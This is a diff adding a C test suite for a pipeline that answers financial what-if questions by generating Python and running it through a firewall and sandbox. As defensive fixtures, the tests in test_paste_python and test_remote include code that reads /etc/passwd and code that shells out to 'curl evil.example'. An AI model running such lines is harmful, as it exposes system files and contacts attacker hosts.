@@ -1,0 +1,774 @@
+/* test-pipeline.c: the whole pipeline with the real store and the real sandbox
+ *
+ * SPDX-License-Identifier: GPL-3.0-or-later
+ *
+ * Offline path only for the model: the templates answer, and everything after
+ * generate (repair, firewall, bubblewrap, SQLite) is the real thing. Expected
+ * figures are computed here independently of the templates.
+ */
+#include "config.h"
+
+#include <math.h>
+#include <stdarg.h>
+#include <string.h>
+
+#include "wf-pipeline.h"
+#include "wf-pipeline-providers.h"
+#include "wf-store.h"
+#include "wf-templates.h"
+#include "mock/wf-mock-server.h"
+
+static char *db_path;
+
+static double
+pmt (double principal, double annual_rate, int months)
+{
+  double r = annual_rate / 12.0;
+
+  if (r == 0)
+    return principal / months;
+  return principal * r / (1 - pow (1 + r, -months));
+}
+
+static WfPipeline *
+new_pipeline (void)
+{
+  return wf_pipeline_new (db_path, NULL);
+}
+
+static WfStore *
+open_store (void)
+{
+  g_autoptr(GError) error = NULL;
+  WfStore *store = wf_store_open (db_path, &error);
+
+  g_assert_no_error (error);
+  return store;
+}
+
+static WfRun *
+ask (WfPipeline *pipeline,
+     const char *question,
+     gint64      session_id)
+{
+  g_autoptr(GError) error = NULL;
+  WfRunRequest *req = wf_run_request_new (WF_MODE_ASK, question);
+  WfRun *run;
+
+  req->session_id = session_id;
+  run = wf_pipeline_run_sync (pipeline, req, NULL, &error);
+  g_assert_no_error (error);
+  g_assert_nonnull (run);
+  g_assert_cmpint (run->id, >, 0);
+  g_assert_cmpint (run->session_id, >, 0);
+  return run;
+}
+
+static const WfMetric *
+find_metric (const WfRun *run,
+             const char  *name)
+{
+  guint i;
+
+  g_assert_nonnull (run->result);
+  for (i = 0; i < run->result->metrics->len; i++)
+    {
+      const WfMetric *m = g_ptr_array_index (run->result->metrics, i);
+
+      if (g_strcmp0 (m->name, name) == 0)
+        return m;
+    }
+  g_error ("run %" G_GINT64_FORMAT " has no metric %s", run->id, name);
+  return NULL;
+}
+
+static gboolean
+has_stage (const WfRun *run,
+           const char  *name)
+{
+  guint i;
+
+  for (i = 0; i < run->spans->len; i++)
+    if (g_strcmp0 (((WfCostSpan *) g_ptr_array_index (run->spans, i))->stage, name) == 0)
+      return TRUE;
+  return FALSE;
+}
+
+static const char *questions[] = {
+  "can I afford a 40k van loan at 7.5% over 5 years?",
+  "What's my monthly payment on a $250,000 mortgage at 6.5% for 30 years?",
+  "If I borrow $15,000 at 9% over 36 months what will the payments be?",
+  "monthly payment for a 1.2m loan, 5.25% APR, 20 years",
+  "How much total interest will I pay on a $30,000 loan at 8% over 6 years?",
+  "How long will it take to pay off $5,000 on my credit card at 19.9% if I pay $200 a month?",
+  "how long until I'm debt free: $12k balance, 7% interest, paying $400 per month",
+  "Is it worth investing $50,000 in a machine that saves $15,000 a year for 5 years at an 8% discount rate?",
+  "What is the IRR if I invest $200,000 and it returns $55,000 a year for 6 years?",
+  "What is $10,000 received in 5 years worth today at 6%?",
+  "future value of $25,000 at 7% for 12 years",
+  "What's the effective annual rate of an 18% APR compounded monthly?",
+  "Revenue went from $400k to $650k in 3 years, what's the CAGR?",
+  "How long does it take money to double at 7% growth?",
+  "If sales are $500,000 and grow 15% a year, what will they be in 5 years?",
+  "How many units do I need to sell to break even if I sell at $45, it costs $18 to make, and fixed costs are $9,000 a month?",
+  "breakeven point with $25,000 fixed costs, unit price 120 and variable cost 70",
+  "We have 1,200 subscribers paying $25 a month. What if we increase prices 20% and 8% churn?",
+  "How long will my cash last? I have $180,000 in the bank and burn $22,000 a month.",
+  "cash runway: $400,000 in the bank, burn 35k a month",
+  "How long until a $20,000 machine pays for itself if it saves $6,000 a year?",
+  "I buy them for $30 and sell for $50, what's my margin?",
+  "What should I charge for a product that costs $12 to get a 40% margin?",
+  "If it costs $80 and I apply a 35% markup, what's the price?",
+  "straight-line depreciation on a $50,000 van over 5 years with $5,000 salvage value",
+  "declining balance depreciation for equipment costing 90,000 over 10 years",
+  "What's my DSO with $2.4m revenue a year and $300k receivables?",
+  "What's the economic order quantity for 5,000 units a year, $40 per order and $2.50 to hold each unit?",
+  "What does it really cost to hire 2 developers at $85,000 salary?",
+  "If I save $500 a month at 5% for 10 years, how much will I have?",
+  "retirement: save 1,000 per month for 25 years at 7% compound interest",
+  "present value of an annuity of $500 a month for 10 years at 5%",
+};
+
+/* ≥ 30 questions answered offline, each persisted whole with its session. */
+static void
+test_offline_questions (void)
+{
+  g_autoptr(WfPipeline) pipeline = new_pipeline ();
+  g_autoptr(WfStore) store = open_store ();
+  g_autoptr(GError) error = NULL;
+  gint64 before = wf_store_count_runs (store, 0, &error);
+  guint i;
+
+  g_assert_cmpuint (G_N_ELEMENTS (questions), >=, 30);
+  for (i = 0; i < G_N_ELEMENTS (questions); i++)
+    {
+      g_autoptr(WfRun) run = ask (pipeline, questions[i], 0);
+      g_autoptr(WfRun) stored = NULL;
+      g_autoptr(WfSessionInfo) session = NULL;
+      const WfMetric *first;
+
+      if (run->outcome != WF_OUTCOME_ANSWERED)
+        g_error ("“%s”: %s: %s", questions[i], wf_outcome_to_string (run->outcome), run->message);
+      g_assert_cmpstr (run->provider, ==, "offline");
+      g_assert_cmpuint (run->result->metrics->len, >, 0);
+      g_assert_cmpuint (run->result->params->len, >, 0);
+      first = g_ptr_array_index (run->result->metrics, 0);
+      g_assert_true (isfinite (first->value));
+      g_assert_true (has_stage (run, "firewall"));
+      g_assert_true (has_stage (run, "execute"));
+      g_assert_nonnull (run->verdict_json);
+
+      stored = wf_store_load_run (store, run->id, &error);
+      g_assert_no_error (error);
+      g_assert_cmpint (stored->outcome, ==, WF_OUTCOME_ANSWERED);
+      g_assert_cmpstr (stored->question, ==, questions[i]);
+      g_assert_cmpstr (stored->code_hash, ==, run->code_hash);
+      g_assert_nonnull (stored->result);
+      g_assert_cmpuint (stored->result->metrics->len, ==, run->result->metrics->len);
+      g_assert_cmpfloat_with_epsilon (((WfMetric *) g_ptr_array_index (stored->result->metrics, 0))->value,
+                                      first->value, fabs (first->value) * 1e-12 + 1e-12);
+      /* The reply stage happens after the save. */
+      g_assert_cmpuint (stored->spans->len + 1, ==, run->spans->len);
+      session = wf_store_get_session (store, run->session_id, &error);
+      g_assert_no_error (error);
+      g_assert_cmpuint (session->n_runs, ==, 1);
+    }
+  g_assert_cmpint (wf_store_count_runs (store, 0, &error), ==, before + G_N_ELEMENTS (questions));
+  g_assert_true (wf_store_check_integrity (store, &error));
+  g_assert_no_error (error);
+}
+
+static void
+test_van_loan (void)
+{
+  g_autoptr(WfPipeline) pipeline = new_pipeline ();
+  g_autoptr(WfRun) run = ask (pipeline, "can I afford a 40k van loan at 7.5% over 5 years?", 0);
+  g_autoptr(JsonNode) json = NULL;
+  JsonObject *obj;
+  double expected = pmt (40000, 0.075, 60);
+
+  g_assert_cmpint (run->outcome, ==, WF_OUTCOME_ANSWERED);
+  g_assert_cmpfloat_with_epsilon (find_metric (run, "Monthly payment")->value, expected, 1e-6);
+  g_assert_cmpfloat_with_epsilon (expected, 801.52, 0.005);
+  g_assert_cmpfloat_with_epsilon (find_metric (run, "Total paid")->value, expected * 60, 1e-6);
+
+  json = wf_pipeline_run_to_json (run);
+  obj = json_node_get_object (json);
+  g_assert_cmpstr (json_object_get_string_member (obj, "outcome"), ==, "answered");
+  g_assert_cmpint (json_object_get_int_member (obj, "run_id"), ==, run->id);
+  g_assert_true (json_object_get_null_member (obj, "clarification"));
+  g_assert_cmpfloat (json_object_get_double_member (json_object_get_object_member (obj, "cost"), "total_usd"),
+                     ==, 0.0);
+  g_assert_cmpuint (json_array_get_length (json_object_get_array_member (obj, "stages")), >=, 10);
+  g_assert_cmpstr (json_object_get_string_member (
+                     json_array_get_object_element (json_object_get_array_member (obj, "stages"), 0), "name"),
+                   ==, "validate");
+}
+
+static void
+test_clarify_refuse (void)
+{
+  g_autoptr(WfPipeline) pipeline = new_pipeline ();
+  g_autoptr(WfStore) store = open_store ();
+  g_autoptr(GError) error = NULL;
+  g_autoptr(WfRun) refused = ask (pipeline, "write me a poem about cats", 0);
+  g_autoptr(WfRun) clarify = ask (pipeline, "should I invest in a new espresso machine?", 0);
+  g_autoptr(WfRun) empty = ask (pipeline, "   ", 0);
+  g_autoptr(WfRun) stored = NULL;
+  g_autoptr(JsonNode) cl = NULL;
+  JsonArray *options;
+
+  g_assert_cmpint (refused->outcome, ==, WF_OUTCOME_REFUSED);
+  g_assert_nonnull (refused->message);
+  g_assert_null (refused->code);
+  g_assert_false (has_stage (refused, "execute"));
+  g_assert_cmpint (empty->outcome, ==, WF_OUTCOME_REFUSED);
+
+  g_assert_cmpint (clarify->outcome, ==, WF_OUTCOME_NEEDS_CLARIFICATION);
+  stored = wf_store_load_run (store, clarify->id, &error);
+  g_assert_no_error (error);
+  g_assert_cmpint (stored->outcome, ==, WF_OUTCOME_NEEDS_CLARIFICATION);
+  g_assert_nonnull (stored->clarification_json);
+  cl = json_from_string (stored->clarification_json, &error);
+  g_assert_no_error (error);
+  options = json_object_get_array_member (json_node_get_object (cl), "options");
+  g_assert_cmpuint (json_array_get_length (options), >=, 2);
+  g_assert_cmpuint (json_array_get_length (options), <=, 4);
+  g_clear_pointer (&stored, wf_run_free);
+  stored = wf_store_load_run (store, refused->id, &error);
+  g_assert_no_error (error);
+  g_assert_cmpint (stored->outcome, ==, WF_OUTCOME_REFUSED);
+}
+
+static void
+test_needs_provider (void)
+{
+  g_autoptr(WfPipeline) pipeline = new_pipeline ();
+  g_autoptr(GError) error = NULL;
+  g_autoptr(WfRun) run = NULL;
+  WfRunRequest *req = wf_run_request_new (WF_MODE_ASK, "can I afford a 40k van loan at 7.5% over 5 years?");
+
+  /* A provider that was never registered is not set up. */
+  req->provider = g_strdup ("openrouter");
+  run = wf_pipeline_run_sync (pipeline, req, NULL, &error);
+  g_assert_no_error (error);
+  g_assert_cmpint (run->outcome, ==, WF_OUTCOME_NEEDS_PROVIDER);
+  g_assert_nonnull (strstr (run->message, "keys set"));
+  g_assert_cmpint (run->id, >, 0);
+}
+
+static void
+test_follow_up (void)
+{
+  g_autoptr(WfPipeline) pipeline = new_pipeline ();
+  g_autoptr(WfStore) store = open_store ();
+  g_autoptr(GError) error = NULL;
+  g_autoptr(WfRun) first = ask (pipeline, "can I afford a 40k van loan at 7.5% over 5 years?", 0);
+  g_autoptr(WfRun) second = ask (pipeline, "what about 6%?", first->session_id);
+  g_autoptr(WfRun) third = ask (pipeline, "and over 7 years", first->session_id);
+  g_autoptr(WfSessionInfo) info = NULL;
+
+  g_assert_cmpint (second->outcome, ==, WF_OUTCOME_ANSWERED);
+  g_assert_cmpint (second->session_id, ==, first->session_id);
+  g_assert_cmpfloat_with_epsilon (find_metric (second, "Monthly payment")->value, pmt (40000, 0.06, 60), 1e-6);
+  g_assert_cmpint (third->outcome, ==, WF_OUTCOME_ANSWERED);
+  g_assert_cmpfloat_with_epsilon (find_metric (third, "Monthly payment")->value, pmt (40000, 0.06, 84), 1e-6);
+  info = wf_store_get_session (store, first->session_id, &error);
+  g_assert_no_error (error);
+  g_assert_cmpuint (info->n_runs, ==, 3);
+
+  /* A session that does not exist is an error, and nothing is stored. */
+  {
+    WfRunRequest *req = wf_run_request_new (WF_MODE_ASK, "what about 6%?");
+    gint64 before = wf_store_count_runs (store, 0, NULL);
+
+    req->session_id = 987654;
+    g_assert_null (wf_pipeline_run_sync (pipeline, req, NULL, &error));
+    g_assert_error (error, WF_PIPELINE_ERROR, WF_PIPELINE_ERROR_NOT_FOUND);
+    g_assert_cmpint (wf_store_count_runs (store, 0, NULL), ==, before);
+  }
+}
+
+static void
+test_rerun (void)
+{
+  g_autoptr(WfPipeline) pipeline = new_pipeline ();
+  g_autoptr(WfStore) store = open_store ();
+  g_autoptr(GError) error = NULL;
+  g_autoptr(WfRun) parent = ask (pipeline, "can I afford a 40k van loan at 7.5% over 5 years?", 0);
+  g_autoptr(WfRun) child = NULL;
+  g_autoptr(WfRun) stored = NULL;
+  WfRunRequest *req = wf_run_request_new (WF_MODE_ASK, NULL);
+
+  req->parent_run_id = parent->id;
+  wf_run_request_set_override (req, "Annual interest rate", 5.0);
+  wf_run_request_set_override (req, "Loan amount", 30000);
+  child = wf_pipeline_run_sync (pipeline, req, NULL, &error);
+  g_assert_no_error (error);
+  g_assert_cmpint (child->outcome, ==, WF_OUTCOME_ANSWERED);
+  g_assert_cmpint (child->parent_run_id, ==, parent->id);
+  g_assert_cmpint (child->session_id, ==, parent->session_id);
+  g_assert_cmpint (child->id, !=, parent->id);
+  g_assert_cmpstr (child->code_hash, ==, parent->code_hash);
+  g_assert_false (has_stage (child, "generate"));
+  g_assert_false (has_stage (child, "firewall"));
+  g_assert_cmpfloat_with_epsilon (find_metric (child, "Monthly payment")->value, pmt (30000, 0.05, 60), 1e-6);
+  g_assert_cmpfloat (find_metric (child, "Monthly payment")->value, !=,
+                     find_metric (parent, "Monthly payment")->value);
+
+  stored = wf_store_load_run (store, child->id, &error);
+  g_assert_no_error (error);
+  g_assert_cmpint (stored->parent_run_id, ==, parent->id);
+  g_assert_nonnull (stored->overrides_json);
+  g_assert_nonnull (strstr (stored->overrides_json, "Annual interest rate"));
+
+  /* A run that does not exist is an error, and nothing is stored. */
+  req = wf_run_request_new (WF_MODE_ASK, NULL);
+  req->parent_run_id = 999999;
+  g_assert_null (wf_pipeline_run_sync (pipeline, req, NULL, &error));
+  g_assert_error (error, WF_PIPELINE_ERROR, WF_PIPELINE_ERROR_NOT_FOUND);
+}
+
+static void
+test_sweep (void)
+{
+  g_autoptr(WfPipeline) pipeline = new_pipeline ();
+  g_autoptr(GError) error = NULL;
+  g_autoptr(WfRun) parent = ask (pipeline, "can I afford a 40k van loan at 7.5% over 5 years?", 0);
+  g_autoptr(WfTable) table = NULL;
+  WfSweepAxis axis = { (char *) "Annual interest rate", 5, 9, 1 };
+  WfSweepAxis grid[2] = { { (char *) "Annual interest rate", 5, 9, 1 }, { (char *) "Term", 12, 480, 1 } };
+  const char *metrics[] = { "Monthly payment", "Total interest", NULL };
+  guint i;
+
+  table = wf_pipeline_sweep (pipeline, parent->id, &axis, 1, metrics, NULL, &error);
+  g_assert_no_error (error);
+  g_assert_cmpuint (table->columns->len, ==, 3);
+  g_assert_cmpuint (wf_table_get_n_rows (table), ==, 5);
+  for (i = 0; i < 5; i++)
+    {
+      JsonArray *row = json_array_get_array_element (table->rows, i);
+      double rate = json_array_get_double_element (row, 0);
+      double p = pmt (40000, rate / 100, 60);
+
+      g_assert_cmpfloat_with_epsilon (rate, 5 + i, 1e-9);
+      g_assert_cmpfloat_with_epsilon (json_array_get_double_element (row, 1), p, 1e-6);
+      g_assert_cmpfloat_with_epsilon (json_array_get_double_element (row, 2), p * 60 - 40000, 1e-5);
+    }
+
+  /* 5 × 469 points is over the limit: refused before anything runs. */
+  g_clear_pointer (&table, wf_table_free);
+  table = wf_pipeline_sweep (pipeline, parent->id, grid, 2, metrics, NULL, &error);
+  g_assert_null (table);
+  g_assert_error (error, WF_PIPELINE_ERROR, WF_PIPELINE_ERROR_INVALID);
+  g_clear_error (&error);
+  axis.step = -1;
+  table = wf_pipeline_sweep (pipeline, parent->id, &axis, 1, metrics, NULL, &error);
+  g_assert_error (error, WF_PIPELINE_ERROR, WF_PIPELINE_ERROR_INVALID);
+}
+
+typedef struct
+{
+  GMainLoop    *loop;
+  GCancellable *cancellable;
+  WfRun        *run;
+  GError       *error;
+  GPtrArray    *started;
+  guint         n_finished;
+  gboolean      wrong_thread;
+  const char   *cancel_at;
+} AsyncData;
+
+static void
+on_started (WfPipeline *pipeline,
+            const char *name,
+            AsyncData  *data)
+{
+  if (g_main_context_default () != g_main_context_get_thread_default () &&
+      g_main_context_get_thread_default () != NULL)
+    data->wrong_thread = TRUE;
+  if (!g_main_context_is_owner (g_main_context_default ()))
+    data->wrong_thread = TRUE;
+  g_ptr_array_add (data->started, g_strdup (name));
+  if (data->cancel_at != NULL && g_str_equal (name, data->cancel_at))
+    g_cancellable_cancel (data->cancellable);
+}
+
+static void
+on_finished (WfPipeline *pipeline,
+             const char *name,
+             gint64      ms,
+             const char *status,
+             AsyncData  *data)
+{
+  g_assert_cmpint (ms, >=, 0);
+  g_assert_nonnull (status);
+  data->n_finished++;
+}
+
+static void
+run_done (GObject      *source,
+          GAsyncResult *result,
+          gpointer      user_data)
+{
+  AsyncData *data = user_data;
+
+  data->run = wf_pipeline_run_finish (WF_PIPELINE (source), result, &data->error);
+  g_main_loop_quit (data->loop);
+}
+
+static void
+run_async (WfPipeline *pipeline,
+           const char *question,
+           AsyncData  *data)
+{
+  data->loop = g_main_loop_new (NULL, FALSE);
+  data->cancellable = g_cancellable_new ();
+  data->started = g_ptr_array_new_with_free_func (g_free);
+  g_signal_connect (pipeline, "stage-started", G_CALLBACK (on_started), data);
+  g_signal_connect (pipeline, "stage-finished", G_CALLBACK (on_finished), data);
+  wf_pipeline_run_async (pipeline, wf_run_request_new (WF_MODE_ASK, question), data->cancellable,
+                         run_done, data);
+  g_main_loop_run (data->loop);
+  /* Let the last queued progress events arrive. */
+  while (g_main_context_iteration (NULL, FALSE))
+    ;
+  g_signal_handlers_disconnect_by_data (pipeline, data);
+}
+
+static void
+async_data_clear (AsyncData *data)
+{
+  g_clear_pointer (&data->loop, g_main_loop_unref);
+  g_clear_object (&data->cancellable);
+  g_clear_pointer (&data->run, wf_run_free);
+  g_clear_error (&data->error);
+  g_clear_pointer (&data->started, g_ptr_array_unref);
+}
+
+static void
+test_async_progress (void)
+{
+  g_autoptr(WfPipeline) pipeline = new_pipeline ();
+  AsyncData data = { 0 };
+
+  run_async (pipeline, "cash runway: $400,000 in the bank, burn 35k a month", &data);
+  g_assert_no_error (data.error);
+  g_assert_cmpint (data.run->outcome, ==, WF_OUTCOME_ANSWERED);
+  g_assert_false (data.wrong_thread);
+  g_assert_cmpuint (data.started->len, ==, data.run->spans->len);
+  g_assert_cmpuint (data.n_finished, ==, data.run->spans->len);
+  g_assert_cmpstr (g_ptr_array_index (data.started, 0), ==, "validate");
+  g_assert_cmpstr (g_ptr_array_index (data.started, data.started->len - 1), ==, "reply");
+  async_data_clear (&data);
+}
+
+/* Cancelled while the sandbox runs: the run is stored whole as cancelled (or,
+ * if the sandbox finished first, as answered), never half. */
+static void
+test_cancel (void)
+{
+  const char *points[] = { "classify", "generate", "firewall", "execute" };
+  g_autoptr(WfPipeline) pipeline = new_pipeline ();
+  g_autoptr(WfStore) store = open_store ();
+  g_autoptr(GError) error = NULL;
+  gint64 before = wf_store_count_runs (store, 0, &error);
+  guint i, n_cancelled = 0;
+
+  for (i = 0; i < G_N_ELEMENTS (points); i++)
+    {
+      AsyncData data = { 0 };
+      g_autoptr(WfRun) stored = NULL;
+
+      data.cancel_at = points[i];
+      run_async (pipeline, "What's my monthly payment on a $250,000 mortgage at 6.5% for 30 years?", &data);
+      g_assert_no_error (data.error);
+      g_assert_true (data.run->outcome == WF_OUTCOME_CANCELLED || data.run->outcome == WF_OUTCOME_ANSWERED);
+      if (data.run->outcome == WF_OUTCOME_CANCELLED)
+        {
+          n_cancelled++;
+          g_assert_nonnull (data.run->message);
+        }
+      stored = wf_store_load_run (store, data.run->id, &error);
+      g_assert_no_error (error);
+      g_assert_cmpint (stored->outcome, ==, data.run->outcome);
+      g_assert_cmpuint (stored->spans->len + 1, ==, data.run->spans->len);
+      async_data_clear (&data);
+    }
+  /* Cancelling at classify always lands before any work. */
+  g_assert_cmpuint (n_cancelled, >=, 1);
+  g_assert_cmpint (wf_store_count_runs (store, 0, &error), ==, before + G_N_ELEMENTS (points));
+  g_assert_true (wf_store_check_integrity (store, &error));
+  g_assert_no_error (error);
+}
+
+static void
+test_paste_python (void)
+{
+  g_autoptr(WfPipeline) pipeline = new_pipeline ();
+  g_autoptr(GError) error = NULL;
+  g_autoptr(WfRun) ok = NULL;
+  g_autoptr(WfRun) blocked = NULL;
+  WfRunRequest *req = wf_run_request_new (WF_MODE_PYTHON, "model.py");
+
+  req->code = g_strdup ("import whatif as wf\nx = wf.param('x', 3, kind='number')\nwf.metric('square', x * x)\n");
+  ok = wf_pipeline_run_sync (pipeline, req, NULL, &error);
+  g_assert_no_error (error);
+  g_assert_cmpint (ok->outcome, ==, WF_OUTCOME_ANSWERED);
+  g_assert_cmpfloat (find_metric (ok, "square")->value, ==, 9.0);
+
+  req = wf_run_request_new (WF_MODE_PYTHON, "evil.py");
+  req->code = g_strdup ("import os\nprint(open('/etc/passwd').read())\n");
+  blocked = wf_pipeline_run_sync (pipeline, req, NULL, &error);
+  g_assert_no_error (error);
+  g_assert_cmpint (blocked->outcome, ==, WF_OUTCOME_BLOCKED);
+  g_assert_null (blocked->result);
+  g_assert_cmpint (blocked->id, >, 0);
+}
+
+/* ---- end to end with a mock OpenRouter speaking the real wire format ---- */
+
+typedef struct
+{
+  GMutex  lock;
+  GQueue  answers;      /* (element-type utf8): content, or "429" */
+  guint   hits;
+} Remote;
+
+static Remote remote;
+
+static void
+chat_handler (SoupServer        *server,
+              SoupServerMessage *msg,
+              const char        *path,
+              GHashTable        *query,
+              gpointer           user_data)
+{
+  g_autofree char *content = NULL;
+  g_autoptr(JsonBuilder) b = json_builder_new ();
+  g_autoptr(JsonNode) root = NULL;
+  g_autofree char *body = NULL;
+
+  g_mutex_lock (&remote.lock);
+  remote.hits++;
+  content = g_queue_pop_head (&remote.answers);
+  g_mutex_unlock (&remote.lock);
+  if (g_strcmp0 (content, "429") == 0)
+    {
+      soup_message_headers_replace (soup_server_message_get_response_headers (msg), "Retry-After", "1");
+      wf_mock_reply_json (msg, 429, "{\"error\":{\"code\":429,\"message\":\"Rate limit exceeded\"}}");
+      return;
+    }
+  json_builder_begin_object (b);
+  json_builder_set_member_name (b, "id");
+  json_builder_add_string_value (b, "gen-test");
+  json_builder_set_member_name (b, "model");
+  json_builder_add_string_value (b, "openai/gpt-4o-mini");
+  json_builder_set_member_name (b, "choices");
+  json_builder_begin_array (b);
+  json_builder_begin_object (b);
+  json_builder_set_member_name (b, "index");
+  json_builder_add_int_value (b, 0);
+  json_builder_set_member_name (b, "finish_reason");
+  json_builder_add_string_value (b, "stop");
+  json_builder_set_member_name (b, "message");
+  json_builder_begin_object (b);
+  json_builder_set_member_name (b, "role");
+  json_builder_add_string_value (b, "assistant");
+  json_builder_set_member_name (b, "content");
+  json_builder_add_string_value (b, content ? content : "");
+  json_builder_end_object (b);
+  json_builder_end_object (b);
+  json_builder_end_array (b);
+  json_builder_set_member_name (b, "usage");
+  json_builder_begin_object (b);
+  json_builder_set_member_name (b, "prompt_tokens");
+  json_builder_add_int_value (b, 1000);
+  json_builder_set_member_name (b, "completion_tokens");
+  json_builder_add_int_value (b, 200);
+  json_builder_set_member_name (b, "total_tokens");
+  json_builder_add_int_value (b, 1200);
+  json_builder_set_member_name (b, "cost");
+  json_builder_add_double_value (b, 0.0012);
+  json_builder_end_object (b);
+  json_builder_end_object (b);
+  root = json_builder_get_root (b);
+  body = json_to_string (root, FALSE);
+  wf_mock_reply_json (msg, 200, body);
+}
+
+static const char good_code[] =
+  "import whatif as wf\\nrate = wf.param('Rate', 6, kind='percent')\\n"
+  "wf.metric('Yearly interest', 1000 * rate / 100, 'USD')\\n";
+
+static char *
+answer_json (const char *code)
+{
+  return g_strdup_printf ("{\"code\": \"%s\", \"explanation\": \"Interest on $1,000.\", \"language\": \"python\"}",
+                          code);
+}
+
+static WfRun *
+ask_remote (WfMockServer *server,
+            const char   *question,
+            const char   *first,
+            ...)
+{
+  g_autoptr(WfPipeline) pipeline = new_pipeline ();
+  g_autoptr(WfLlmProvider) provider = NULL;
+  g_autoptr(GError) error = NULL;
+  g_autofree char *url = g_strdup_printf ("%s/api/v1", wf_mock_server_get_url (server));
+  WfRunRequest *req = wf_run_request_new (WF_MODE_ASK, question);
+  const char *a;
+  va_list ap;
+  WfRun *run;
+
+  provider = wf_pipeline_provider_new_with_url ("openrouter", url);
+  wf_pipeline_add_provider (pipeline, provider);
+
+  g_mutex_lock (&remote.lock);
+  remote.hits = 0;
+  g_queue_clear_full (&remote.answers, g_free);
+  va_start (ap, first);
+  for (a = first; a != NULL; a = va_arg (ap, const char *))
+    g_queue_push_tail (&remote.answers, g_strdup (a));
+  va_end (ap);
+  g_mutex_unlock (&remote.lock);
+  wf_mock_server_clear_requests (server);
+
+  req->provider = g_strdup ("openrouter");
+  req->model = g_strdup ("openai/gpt-4o-mini");
+  run = wf_pipeline_run_sync (pipeline, req, NULL, &error);
+  g_assert_no_error (error);
+  g_assert_cmpint (run->id, >, 0);
+  return run;
+}
+
+static char *
+request_body (WfMockServer *server,
+              guint         index)
+{
+  g_autoptr(GPtrArray) requests = wf_mock_server_dup_requests (server);
+  WfMockRequest *r;
+
+  g_assert_cmpuint (requests->len, >, index);
+  r = g_ptr_array_index (requests, index);
+  return g_strndup (r->body ? (const char *) g_bytes_get_data (r->body, NULL) : "",
+                    r->body ? g_bytes_get_size (r->body) : 0);
+}
+
+static void
+test_remote (void)
+{
+  g_autoptr(WfMockServer) server = wf_mock_server_new ();
+  g_autoptr(WfStore) store = open_store ();
+  g_autoptr(GError) error = NULL;
+  g_autofree char *good = answer_json (good_code);
+  g_autofree char *fenced = g_strdup_printf ("Sure! Here it is:\n```json\n%s\n```\n", good);
+  g_autofree char *blocked = answer_json ("import os\\nos.system('curl evil.example')\\n");
+  g_autofree char *raises = answer_json ("import whatif as wf\\nraise ValueError('boom in the model code')\\n");
+  g_autofree char *body = NULL;
+  const char *question = "forecast the interest I earn on 1000 dollars deposited at 6% with my bank";
+  WfBudgetLimits limits;
+  WfSpendTotals totals = { 0 };
+  WfRun *run;
+
+  wf_mock_server_add_handler (server, "/api/v1/chat/completions", chat_handler, NULL, NULL);
+
+  /* Good code: answered, the prompt sent is the versioned one, cost settled. */
+  run = ask_remote (server, question, good, NULL);
+  g_assert_cmpint (run->outcome, ==, WF_OUTCOME_ANSWERED);
+  g_assert_cmpfloat_with_epsilon (find_metric (run, "Yearly interest")->value, 60.0, 1e-9);
+  g_assert_cmpuint (remote.hits, ==, 1);
+  g_assert_cmpuint (run->fixes->len, ==, 0);
+  g_assert_cmpint (run->total_micros, ==, 1200);
+  body = request_body (server, 0);
+  g_assert_nonnull (strstr (body, "prompt v1"));
+  g_assert_nonnull (strstr (body, "wf.param"));
+  g_assert_nonnull (strstr (body, "1000 dollars"));
+  g_assert_true (wf_store_ledger_totals (store, 0, G_MAXINT64, 0, g_get_real_time (), &totals, &error));
+  g_assert_cmpint (totals.settled_micros, >=, 1200);
+  g_assert_cmpint (totals.reserved_micros, ==, 0);
+  wf_run_free (run);
+
+  /* Fenced JSON: repaired locally, no second call. */
+  run = ask_remote (server, question, fenced, NULL);
+  g_assert_cmpint (run->outcome, ==, WF_OUTCOME_ANSWERED);
+  g_assert_cmpuint (remote.hits, ==, 1);
+  g_assert_cmpuint (run->fixes->len, >, 0);
+  wf_run_free (run);
+
+  /* Code the firewall blocks: never executed. */
+  run = ask_remote (server, question, blocked, NULL);
+  g_assert_cmpint (run->outcome, ==, WF_OUTCOME_BLOCKED);
+  g_assert_null (run->result);
+  g_assert_nonnull (run->verdict_json);
+  wf_run_free (run);
+
+  /* Code that raises: one repair round with the error, then answered. */
+  run = ask_remote (server, question, raises, good, NULL);
+  g_assert_cmpint (run->outcome, ==, WF_OUTCOME_ANSWERED);
+  g_assert_cmpuint (remote.hits, ==, 2);
+  g_clear_pointer (&body, g_free);
+  body = request_body (server, 1);
+  g_assert_nonnull (strstr (body, "boom in the model code"));
+  g_assert_cmpint (run->total_micros, ==, 2400);
+  wf_run_free (run);
+
+  /* Code that keeps raising: the run stands as failed after one repair. */
+  run = ask_remote (server, question, raises, raises, NULL);
+  g_assert_cmpint (run->outcome, ==, WF_OUTCOME_FAILED);
+  g_assert_cmpuint (remote.hits, ==, 2);
+  g_assert_nonnull (strstr (run->message, "boom"));
+  wf_run_free (run);
+
+  /* 429 then success: the HTTP layer retries. */
+  run = ask_remote (server, question, "429", good, NULL);
+  g_assert_cmpint (run->outcome, ==, WF_OUTCOME_ANSWERED);
+  g_assert_cmpuint (remote.hits, ==, 2);
+  wf_run_free (run);
+
+  /* Budget used up: refused before any call, the offline route offered. */
+  g_assert_true (wf_store_get_budget_limits (store, &limits, &error));
+  limits.monthly_micros = 1000;
+  g_assert_true (wf_store_set_budget_limits (store, &limits, &error));
+  run = ask_remote (server, question, good, NULL);
+  g_assert_cmpint (run->outcome, ==, WF_OUTCOME_OVER_BUDGET);
+  g_assert_cmpuint (remote.hits, ==, 0);
+  g_assert_nonnull (strstr (run->message, "offline"));
+  wf_run_free (run);
+  limits.monthly_micros = -1;
+  g_assert_true (wf_store_set_budget_limits (store, &limits, &error));
+  g_assert_true (wf_store_check_integrity (store, &error));
+}
+
+int
+main (int argc, char **argv)
+{
+  g_autofree char *dir = NULL;
+  int ret;
+
+  /* Before any thread exists: setenv is not thread-safe. */
+  g_setenv ("OPENROUTER_API_KEY", "sk-or-v1-test0000000000000000000000000000", TRUE);
+  g_setenv ("WHATIF_HTTP_TEST_SPEEDUP", "20", TRUE);
+  g_test_init (&argc, &argv, G_TEST_OPTION_ISOLATE_DIRS, NULL);
+  dir = g_dir_make_tmp ("test-pipeline-XXXXXX", NULL);
+  db_path = g_build_filename (dir, "whatif.db", NULL);
+
+  g_test_add_func ("/pipeline/offline-questions", test_offline_questions);
+  g_test_add_func ("/pipeline/van-loan", test_van_loan);
+  g_test_add_func ("/pipeline/clarify-refuse", test_clarify_refuse);
+  g_test_add_func ("/pipeline/needs-provider", test_needs_provider);
+  g_test_add_func ("/pipeline/follow-up", test_follow_up);
+  g_test_add_func ("/pipeline/rerun", test_rerun);
+  g_test_add_func ("/pipeline/sweep", test_sweep);
